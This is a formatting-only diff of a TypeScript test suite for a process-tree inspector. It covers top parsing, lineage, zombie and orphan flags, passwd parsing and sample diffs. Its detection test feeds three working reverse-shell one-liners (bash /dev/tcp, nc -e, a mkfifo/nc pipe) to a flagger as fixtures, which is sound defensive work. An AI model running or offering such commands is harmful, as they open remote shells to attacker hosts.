@@ -11,7 +11,16 @@ import { parseElapsed, parseTop, type PsRow } from '../../../main/core/processes
 const TOP = {
   Titles: ['PID', 'PPID', 'PGID', 'SID', 'UID', 'ELAPSED', 'STAT', 'COMMAND'],
   Processes: [
-    ['22776', '22755', '22776', '22776', '0', '61', 'Ss', 'sh -c sh -c "sleep 1001 & exec sleep 1002" & (sleep 1003 &) ; while true; do sleep 1; done'],
+    [
+      '22776',
+      '22755',
+      '22776',
+      '22776',
+      '0',
+      '61',
+      'Ss',
+      'sh -c sh -c "sleep 1001 & exec sleep 1002" & (sleep 1003 &) ; while true; do sleep 1; done',
+    ],
     ['22803', '22776', '22776', '22776', '0', '61', 'S', 'sleep 1002'],
     ['22805', '22776', '22776', '22776', '0', '61', 'S', 'sleep 1003'],
     ['22807', '22803', '22776', '22776', '0', '61', 'S', 'sleep 1001'],
@@ -40,8 +49,23 @@ test('top output parses into rows with every column', () => {
   const parsed = parseTop(TOP);
   assert.deepEqual(parsed.missing, []);
   assert.equal(parsed.rows.length, 8);
-  assert.deepEqual(parsed.rows[3], { pid: 22807, ppid: 22803, pgid: 22776, sid: 22776, uid: '0', elapsedSeconds: 61, state: 'S', args: 'sleep 1001' });
-  const minimal = parseTop({ Titles: ['UID', 'PID', 'PPID', 'C', 'STIME', 'TTY', 'TIME', 'CMD'], Processes: [['root', '10', '1', '0', '12:00', '?', '00:00:00', 'nginx: master'], ['root', 'x', '1', '0', '', '', '', 'bad']] });
+  assert.deepEqual(parsed.rows[3], {
+    pid: 22807,
+    ppid: 22803,
+    pgid: 22776,
+    sid: 22776,
+    uid: '0',
+    elapsedSeconds: 61,
+    state: 'S',
+    args: 'sleep 1001',
+  });
+  const minimal = parseTop({
+    Titles: ['UID', 'PID', 'PPID', 'C', 'STIME', 'TTY', 'TIME', 'CMD'],
+    Processes: [
+      ['root', '10', '1', '0', '12:00', '?', '00:00:00', 'nginx: master'],
+      ['root', 'x', '1', '0', '', '', '', 'bad'],
+    ],
+  });
   assert.equal(minimal.rows.length, 1, 'a row with an unparsable PID is dropped');
   assert.deepEqual(minimal.missing, ['pgid', 'sid', 'elapsedSeconds', 'state']);
   assert.throws(() => parseTop({ Titles: ['USER', 'COMMAND'], Processes: [] }), /no PID column/);
@@ -67,11 +91,22 @@ test('tree: parent links, entrypoint lineage, exec session, orphan, zombie', () 
   for (const pid of [22776, 22803, 22805, 22807, 22824]) assert.equal(get(pid)?.inEntrypointLineage, true, `${pid} in lineage`);
   assert.equal(get(22902)?.inEntrypointLineage, false);
   assert.equal(get(22902)?.execId?.slice(0, 12), 'e00230464337');
-  assert.deepEqual(get(22902)?.flags.map((f) => f.kind), ['exec-session']);
-  assert.deepEqual(get(23001)?.flags.map((f) => f.kind).sort(), ['orphan', 'reparented', 'reverse-shell']);
+  assert.deepEqual(
+    get(22902)?.flags.map((f) => f.kind),
+    ['exec-session'],
+  );
+  assert.deepEqual(
+    get(23001)
+      ?.flags.map((f) => f.kind)
+      .sort(),
+    ['orphan', 'reparented', 'reverse-shell'],
+  );
   assert.equal(get(23001)?.user, 'www-data');
   assert.equal(get(23002)?.parent, 23001);
-  assert.deepEqual(get(23002)?.flags.map((f) => f.kind), ['reparented', 'zombie']);
+  assert.deepEqual(
+    get(23002)?.flags.map((f) => f.kind),
+    ['reparented', 'zombie'],
+  );
   assert.equal(get(22807)?.startedAt, '2024-05-01T11:58:59.000Z');
   assert.equal(get(22807)?.depth, 2);
 });
@@ -96,7 +131,10 @@ test('tree tolerates PID cycles and a missing init', () => {
 });
 
 test('command-line flags: attacks flagged, ordinary workloads not', () => {
-  const kinds = (args: string) => commandLineFlags(args).map((f) => f.kind).sort();
+  const kinds = (args: string) =>
+    commandLineFlags(args)
+      .map((f) => f.kind)
+      .sort();
   assert.deepEqual(kinds('bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'), ['reverse-shell']);
   assert.deepEqual(kinds('nc -e /bin/sh 198.51.100.7 4444'), ['reverse-shell']);
   assert.deepEqual(kinds('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f'), ['reverse-shell']);
@@ -135,19 +173,28 @@ test('flag patterns stay fast on hostile, huge titles', () => {
 });
 
 test('passwd: first entry wins, junk ignored', () => {
-  const users = parsePasswd('root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n\nbad line\nwww-data:x:33:33::/var/www:/bin/false\nx:x:notanumber:1::/:/\n');
-  assert.deepEqual([...users.entries()], [
-    ['0', 'root'],
-    ['33', 'www-data'],
-  ]);
+  const users = parsePasswd(
+    'root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n\nbad line\nwww-data:x:33:33::/var/www:/bin/false\nx:x:notanumber:1::/:/\n',
+  );
+  assert.deepEqual(
+    [...users.entries()],
+    [
+      ['0', 'root'],
+      ['33', 'www-data'],
+    ],
+  );
 });
 
 test('diff between samples: appeared, vanished, PID reuse and re-parenting', () => {
   const t1 = tree().processes;
-  const t2 = tree().processes.filter((p) => p.pid !== 22824).map((p) => (p.pid === 22807 ? { ...p, ppid: 22776 } : p));
+  const t2 = tree()
+    .processes.filter((p) => p.pid !== 22824)
+    .map((p) => (p.pid === 22807 ? { ...p, ppid: 22776 } : p));
   const reused = { ...t2.find((p) => p.pid === 22805)!, startedAt: '2024-05-01T11:59:50.000Z', args: 'sleep 9999' };
   const t3 = [...t2.filter((p) => p.pid !== 22805), reused, { ...t2[0]!, pid: 30000, args: 'new one' }];
-  const changes = diffProcesses(t1, t3).map((c) => `${c.kind}:${c.pid}`).sort();
+  const changes = diffProcesses(t1, t3)
+    .map((c) => `${c.kind}:${c.pid}`)
+    .sort();
   assert.deepEqual(changes, ['appeared:22805', 'appeared:30000', 'reparented:22807', 'vanished:22805', 'vanished:22824']);
   const reparented = diffProcesses(t1, t3).find((c) => c.kind === 'reparented');
   assert.equal(reparented?.previousPpid, 22803);
